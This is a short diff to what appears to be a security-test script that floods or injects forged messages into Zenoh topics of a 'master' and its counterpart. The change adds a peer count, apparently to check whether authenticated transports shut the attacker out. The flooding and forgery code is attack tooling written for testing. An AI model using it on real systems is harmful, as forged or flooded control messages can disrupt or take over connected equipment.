@@ -138,6 +138,8 @@ def main() -> None:
     config.insert_json5("scouting/multicast/enabled", "false")
     with zenoh.open(config) as session:
         time.sleep(0.5)  # let the victims' subscriptions reach this session
+        # 0 when the victims admit only authenticated transports (a session key)
+        peers = len(list(session.info.peers_zid()))
         if args.attack == "junk":
             key = "tool" if args.victim == "master" else "handle"
             sent = flood(session, f"{args.key_prefix}/{key}", args.rate, args.duration,
@@ -147,7 +149,7 @@ def main() -> None:
             key = f"{args.key_prefix}/{'tool' if kind == KIND_TOOL else 'handle'}"
             sent = flood(session, key, args.rate, args.duration,
                          lambda i: forged_payload(kind, 1234 + i, i, args.force))
-    print(f"sent {sent}")
+    print(f"peers {peers} sent {sent}")
 
 
 if __name__ == "__main__":
